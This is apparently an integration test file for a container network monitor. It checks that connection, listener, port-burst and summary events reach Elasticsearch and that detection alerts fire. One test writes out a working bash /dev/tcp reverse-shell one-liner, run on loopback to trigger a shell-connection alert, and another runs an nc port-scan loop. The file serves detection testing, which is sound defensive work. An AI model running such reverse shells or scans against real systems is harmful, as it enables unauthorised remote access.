import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type Docker from 'dockerode';
import { adminClient, engines, LAB, newNamespace } from '../support/engines';
import { removeContainers, runContainer } from '../support/containers';
import { DockwardProcess } from '../support/dockward';
import { fetchAll } from '../support/elasticsearch';

type Doc = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

async function eventually<T>(what: string, find: () => Promise<T | undefined>, timeoutMs = 40_000): Promise<T> {
  const end = Date.now() + timeoutMs;
  for (;;) {
    const v = await find();
    if (v !== undefined) return v;
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 500));
  }
}

/** `docker exec -d`: starts the command and returns at once (it may run for long). */
async function execDetached(docker: Docker, id: string, cmd: string[]): Promise<void> {
  const e = await docker.getContainer(id).exec({ Cmd: cmd, AttachStdout: false, AttachStderr: false });
  const stream = await e.start({ Detach: true });
  stream?.destroy(); // detached: nothing to read; an unread response holds the test process ~5 minutes after its last test
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

describe('connections collector (real dockerd, real Elasticsearch; traffic on 127.0.0.1 of --network none containers)', () => {
  const { docker } = engines();
  const es = adminClient();
  const ns = newNamespace('conn');
  let dw: DockwardProcess;
  const net = `logs-dockward.network-${ns}`;
  const alerts = `logs-dockward.alert-${ns}`;
  const docsOf = (id: string) => fetchAll<Doc>(es, net, { term: { 'container.id': id } });

  before(async () => {
    dw = DockwardProcess.run({
      namespace: ns,
      sets: [
        'collectors.connections.schedule=* * * * * *',
        'collectors.processes.enabled=false', 'collectors.stats.enabled=false', 'collectors.drift.enabled=false',
        'collectors.config.enabled=false', 'collectors.exec.enabled=false',
      ],
    });
    await dw.waitFor(/dockward running/);
  });
  after(async () => {
    await dw.kill();
    await removeContainers(docker, ns);
    await es.close();
  });

  it('a listener and a client on 127.0.0.1: listener, both ends opened with their processes, then closed and gone', async () => {
    const { id } = await runContainer(docker, { name: `${ns}-pair`, cmd: ['sleep', '300'] });
    await sleep(2500); // the namespace's first (baseline) read, empty
    await execDetached(docker, id, ['sh', '-c', 'sleep 30 | nc -l -p 4444']);
    await eventually('the listener', async () => ((await docsOf(id)).some((d) => d.event.action === 'listener_opened') ? true : undefined));
    // The client sends nothing and hangs up when its stdin ends, 4 s later; busybox nc -l then exits too.
    await execDetached(docker, id, ['sh', '-c', 'sleep 4 | nc 127.0.0.1 4444']);
    const docs = await eventually('both ends closed', async () => {
      const d = await docsOf(id);
      return d.filter((x) => x.event.action === 'connection_closed').length >= 2 ? d : undefined;
    });
    await sleep(3000); // nothing more may come
    const all = await docsOf(id);
    const seen = all.map((d) => `${d.event.action} ${d.dockward.network.side}`).sort();
    assert.deepEqual(seen, [
      'connection_closed client', 'connection_closed server', 'connection_opened client', 'connection_opened server',
      'listener_closed listener', 'listener_opened listener',
    ], JSON.stringify(all.map((d) => d.message)));
    const listener = docs.find((d) => d.event.action === 'listener_opened')!;
    assert.equal(listener.destination.port, 4444);
    assert.equal(listener.network.transport, 'tcp');
    assert.equal(listener.process.name, 'nc');
    assert.equal(listener.process.command_line, 'nc -l -p 4444');
    assert.equal(listener.dockward.network.first_listener, true, 'the container had no listener before');
    assert.equal(listener.dockward.network.baseline, undefined);

    const opened = (side: string) => all.find((d) => d.event.action === 'connection_opened' && d.dockward.network.side === side)!;
    const closed = (side: string) => all.find((d) => d.event.action === 'connection_closed' && d.dockward.network.side === side)!;
    const client = opened('client');
    const server = opened('server');
    for (const d of [client, server]) {
      assert.equal(d.network.direction, 'internal');
      assert.equal(d.network.transport, 'tcp');
      assert.equal(d.dockward.network.state, 'ESTABLISHED');
      assert.equal(d.source.ip, '127.0.0.1');
      assert.equal(d.destination.ip, '127.0.0.1');
      assert.equal(d.destination.port, 4444);
      assert.equal(d.container.name, `${ns}-pair`);
      assert.equal(d.data_stream.dataset, 'dockward.network');
      assert.deepEqual(d.event.category, ['network']);
    }
    assert.equal(client.source.port, server.source.port, 'both ends name the same client port');
    assert.ok(client.source.port >= 1024 && client.source.port !== 4444);
    assert.equal(client.process.command_line, 'nc 127.0.0.1 4444');
    assert.equal(server.process.command_line, 'nc -l -p 4444');
    assert.equal(client.process.name, 'nc');
    assert.notEqual(client.process.pid, server.process.pid);
    // The closed documents carry what the opened ones knew.
    assert.equal(closed('client').process.command_line, 'nc 127.0.0.1 4444');
    assert.equal(closed('server').process.command_line, 'nc -l -p 4444');
    assert.equal(closed('client').source.port, client.source.port);
    assert.deepEqual(closed('client').event.type, ['connection', 'end']);
    assert.equal(new Set(all.map((d) => d._id)).size, all.length);
  });

  it('containers sharing one network namespace are read once: one document per socket, named after the container of its process', async () => {
    const { id: a } = await runContainer(docker, { name: `${ns}-owner`, cmd: ['sleep', '300'] });
    const { id: b } = await runContainer(docker, { name: `${ns}-joined`, cmd: ['sh', '-c', 'sleep 2; sleep 60 | nc -l -p 5555'], hostConfig: { NetworkMode: `container:${a}` } });
    // Other runs may listen on 5555 in their own containers on this engine: only these two containers count.
    const ours = { bool: { filter: [{ term: { 'destination.port': 5555 } }, { terms: { 'container.id': [a, b] } }] } };
    const docs = await eventually('the listener of the joined container', async () => {
      const d = await fetchAll<Doc>(es, net, ours);
      return d.some((x) => x.event.action === 'listener_opened') ? d : undefined;
    });
    await sleep(3000);
    const listeners = (await fetchAll<Doc>(es, net, ours)).filter((d) => d.event.action === 'listener_opened');
    assert.equal(listeners.length, 1, JSON.stringify(docs.map((d) => [d.container?.name, d.message])));
    assert.equal(listeners[0].container.id, b, 'the listener belongs to the container whose process holds it');
    assert.equal(listeners[0].process.command_line, 'nc -l -p 5555');
    const m = await dw.metrics();
    assert.ok((m.dockward_connections_namespaces ?? 0) >= 1);
    assert.equal((await docsOf(a)).length, 0, 'nothing is attributed twice to the namespace owner');
  });

  it('a reverse shell that stays connected raises dockward-net-shell-connection; its listener dockward-net-listener-by-tool', async () => {
    const { id } = await runContainer(docker, { name: `${ns}-revsh`, image: LAB, cmd: ['sleep', '300'] });
    await sleep(2500);
    await execDetached(docker, id, ['sh', '-c', 'sleep 120 | nc -l 127.0.0.1 4444 > /dev/null']);
    await sleep(1500);
    await execDetached(docker, id, ['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1']);
    const found = await eventually('the reverse-shell alert', async () => {
      const d = await fetchAll<Doc>(es, alerts, { term: { 'container.id': id } });
      const ids = new Set(d.map((x) => x.rule.id));
      return ids.has('dockward-net-shell-connection') && ids.has('dockward-net-listener-by-tool') ? d : undefined;
    }, 60_000);
    const shell = found.find((d) => d.rule.id === 'dockward-net-shell-connection')!;
    assert.equal(shell.process.name, 'bash');
    assert.match(shell.process.command_line, /bash -i/);
    assert.match(JSON.stringify(shell.threat), /T1059\.004/);
    assert.match(JSON.stringify(shell.threat), /T1095/);
    assert.equal(shell.dockward.alert.source.index, net);
    const conn = (await docsOf(id)).find((d) => d.event.action === 'connection_opened' && d.dockward.network.side === 'client')!;
    assert.equal(conn.destination.port, 4444);
    assert.equal(conn.network.direction, 'internal');
    assert.equal(conn.process.name, 'bash');
  });

  it('new connections to many ports of one host: a burst document and dockward-net-port-burst', async () => {
    const { id } = await runContainer(docker, { name: `${ns}-burst`, cmd: ['sleep', '300'] });
    await sleep(2500);
    // 12 listeners (each a busybox nc -l, closed once it accepted), then 12 clients paced over ~4 s:
    // with a read every second no single read sees ten new ports, so only the window finds the scan.
    await execDetached(docker, id, ['sh', '-c', 'for p in $(seq 7101 7112); do (sleep 60 | nc -l -p $p &); done; sleep 1.5; for p in $(seq 7101 7112); do (sleep 60 | nc 127.0.0.1 $p &); sleep 0.35; done; sleep 60']);
    const burst = await eventually('the burst document', async () => (await docsOf(id)).find((d) => d.event.action === 'connection_burst'));
    assert.equal(burst.destination.ip, '127.0.0.1');
    assert.ok(burst.dockward.network.burst.ports >= 10, JSON.stringify(burst.dockward.network));
    assert.match(burst.message, /new tcp connections to \d+ ports of 127\.0\.0\.1 in 60 s/);
    assert.ok(burst.dockward.network.burst.sample.every((p: number) => p >= 7101 && p <= 7112), 'counted by the ports of the listening side, not the ephemeral ones');
    assert.equal(burst.process.name, 'nc');
    await eventually('the burst alert', async () => {
      const d = await fetchAll<Doc>(es, alerts, { bool: { filter: [{ term: { 'container.id': id } }, { term: { 'rule.id': 'dockward-net-port-burst' } }] } });
      return d.length > 0 ? d : undefined;
    });
  });

  it('thousands of connections in one read are summarised (bounded documents, every connection counted)', async () => {
    const n = 1500;
    const node = ['/opt/node/lib/ld-linux-x86-64.so.2', '--library-path', '/opt/node/lib', '/opt/node/node', '-e',
      // Batches of 100 and a deep backlog: a full accept queue drops the handshake's last ACK and leaves a client end without its server end.
      `const net=require('net');net.createServer(()=>{}).listen({port:7000,host:'127.0.0.1',backlog:4096},()=>{let k=0;const go=()=>{for(let i=0;i<100&&k<${n};i++,k++)net.connect(7000,'127.0.0.1');if(k<${n})setTimeout(go,10)};setTimeout(go,2500)});setInterval(()=>{},1e6)`];
    const { id } = await runContainer(docker, {
      name: `${ns}-many`, cmd: node,
      hostConfig: { Binds: [`${process.execPath}:/opt/node/node:ro`, '/usr/lib/x86_64-linux-gnu:/opt/node/lib:ro'] },
    });
    const counted = (d: Doc) => d.dockward.network.count ?? 1;
    const docs = await eventually(`${2 * n} connections counted`, async () => {
      const d = (await docsOf(id)).filter((x) => x.event.action === 'connection_opened');
      return d.reduce((s, x) => s + counted(x), 0) >= 2 * n ? d : undefined;
    }, 60_000);
    assert.equal(docs.reduce((s, x) => s + counted(x), 0), 2 * n, 'each end of each connection once');
    assert.ok(docs.length <= 2 * 200 + 4, `${docs.length} documents for ${2 * n} connection ends`);
    const summaries = docs.filter((d) => d.dockward.network.summary);
    assert.ok(summaries.length >= 1);
    const big = summaries.sort((x, y) => y.dockward.network.count - x.dockward.network.count)[0];
    assert.equal(big.destination.port, 7000);
    assert.equal(big.source.port, undefined, 'a summary drops the ephemeral port');
    assert.match(big.process.command_line, /\/opt\/node\/node -e/, 'held by the node process (started through the loader)');
    assert.equal(big.network.direction, 'internal');
    // The container's end closes them all, again in summaries.
    await docker.getContainer(id).kill();
    const closed = await eventually('the closes', async () => {
      const d = (await docsOf(id)).filter((x) => x.event.action === 'connection_closed');
      return d.reduce((s, x) => s + counted(x), 0) >= 2 * n ? d : undefined;
    });
    assert.ok(closed.length <= 2 * 200 + 4);
    assert.ok((await docsOf(id)).some((d) => d.event.action === 'listener_closed' && d.destination.port === 7000));
  });
});
